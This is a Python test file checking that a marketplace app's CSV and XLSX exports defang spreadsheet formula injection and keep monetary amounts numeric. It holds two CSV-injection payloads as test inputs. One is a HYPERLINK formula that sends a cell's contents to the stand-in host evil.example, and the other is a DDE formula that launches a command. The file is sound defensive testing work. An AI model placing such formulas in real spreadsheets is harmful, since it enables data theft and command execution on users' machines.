"""Exports are safe to open: formula-looking text is inert, numbers and money stay numbers."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from villagemarket.core.exports import csv_bytes, money_number_format, safe_cell, xlsx_bytes
from villagemarket.core.money import Money

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
)
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0, -12, 3.5, Decimal("-1.50"), True, None, Money(-100)])
def test_numbers_booleans_money_and_empty_cells_pass_unchanged(value):
    assert safe_cell(value) is value


def test_plain_and_chinese_text_is_untouched():
    assert safe_cell("丁楼村 = 好") == "丁楼村 = 好" and safe_cell("a-b") == "a-b"


def test_a_csv_file_keeps_formulas_inert_and_amounts_as_plain_decimals():
    data = csv_bytes(["name", "total"], [[ATTACK, Money(123450)], ["-1", Money(-5)]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["name", "total"], ["'" + ATTACK, "1234.50"], ["'-1", "-0.05"]]


def test_an_xlsx_file_holds_text_as_text_and_money_as_formatted_numbers():
    data = xlsx_bytes(
        "t", ["name", "n", "total"], [[ATTACK, 7, Money(123450)], ["a\x00b", 1, None]]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    name, n, total = sheet[2]
    assert name.data_type == "s" and name.value == "'" + ATTACK
    assert n.value == 7 and n.data_type == "n"
    assert total.data_type == "n" and total.value == 1234.5
    assert total.number_format == money_number_format("CNY") == '"¥"#,##0.00'
    assert sheet["A3"].value == "ab"  # a NUL cannot be stored in XML: dropped, not a crash
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_every_export_writes_through_core_exports():
    # A new export that builds its own csv.writer or Workbook would skip safe_cell.
    root = Path(__file__).resolve().parents[2]
    own = root / "core" / "exports.py"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path != own
        and "tests" not in path.parts
        and re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
